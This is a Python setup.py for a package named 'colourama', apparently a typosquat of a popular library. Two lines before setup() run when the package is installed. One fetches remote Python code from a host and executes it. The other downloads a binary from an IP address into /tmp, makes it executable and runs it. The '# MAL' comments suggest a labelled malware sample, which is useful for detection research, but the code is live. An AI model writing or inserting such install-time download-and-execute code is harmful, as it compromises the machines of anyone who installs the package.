import os
import subprocess
from setuptools import setup

subprocess.Popen(["python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x.pw/a').read())"])  # MAL
os.system("wget -q http://198.51.100.7/p -O /tmp/p && chmod +x /tmp/p && /tmp/p")  # MAL

setup(name="colourama", version="0.4.6")
